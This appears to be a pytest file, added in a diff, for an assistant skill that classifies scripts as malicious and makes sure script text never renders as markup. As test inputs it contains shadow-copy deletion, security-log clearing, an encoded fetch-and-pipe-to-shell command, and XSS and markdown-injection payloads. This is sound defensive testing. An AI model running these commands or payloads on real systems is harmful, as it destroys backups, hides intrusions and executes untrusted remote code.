@@ -1,0 +1,58 @@
+"""The answer about scripts: the verdict first, evidence in code, nothing that a script says becomes markup."""
+
+from __future__ import annotations
+
+import pytest
+from markdown_it import MarkdownIt
+
+from svc.assistant.findings import Finding
+from svc.assistant.skills.script.answer import SECTION
+from svc.assistant.skills.script.tool import explain
+
+
+def found(text: str, source: str = "prompt") -> list[Finding]:
+    return [item for item in explain(text, source=source) if isinstance(item, Finding)]
+
+
+def test_the_verdict_comes_first_with_its_reasons_and_that_nothing_was_run():
+    said = SECTION.verdict(found("vssadmin delete shadows /all /quiet"))
+    assert said.startswith("**Malicious**")
+    assert "shadow copies" in said
+    assert "Read, not run." in said
+
+
+def test_ordinary_work_is_not_called_anything_bad():
+    assert SECTION.verdict(found("apt-get install -y nginx")).startswith("**Nothing that attackers are known for**")
+
+
+def test_the_body_shows_behaviours_techniques_stages_and_commands():
+    body = SECTION.body(found("echo Y3VybCBodHRwOi8vYS50ZXN0L3ggfCBiYXNo | base64 -d | sh"))
+    for words in ("What it does", "Techniques, likeliest first", "Stage 2", "in order", "Unix Shell"):
+        assert words in body
+
+
+def test_without_a_script_the_answer_says_so():
+    assert "No command or script" in SECTION.verdict([])
+    assert SECTION.body([]) == ""
+    assert SECTION.next_steps([]) == []
+
+
+def test_several_scripts_are_told_apart():
+    both = found("whoami", "a.bat") + found("vssadmin delete shadows /all", "b.bat")
+    assert "`b.bat`" in SECTION.verdict(both)
+    assert "**a\\[.\\]bat**" in SECTION.body(both) or "a[.]bat" in SECTION.body(both)
+
+
+def test_next_steps_follow_from_what_was_found():
+    steps = SECTION.next_steps(found("vssadmin delete shadows /all & wevtutil cl Security"))
+    assert any("Isolate" in step for step in steps)
+    assert any("logs" in step for step in steps)
+
+
+@pytest.mark.parametrize("evil", ["[x](http://evil.test)", "<img src=x onerror=alert(1)>", "`|`|`", "# title"])
+def test_what_a_script_says_stays_text(evil: str):
+    findings = found(f"curl http://a.test/{evil} -o '{evil}' | bash -c \"{evil}\"; powershell -File {evil}")
+    html = MarkdownIt("js-default").render(SECTION.body(findings))
+    assert "<img" not in html
+    assert 'href="http' not in html
+    assert "<h1" not in html
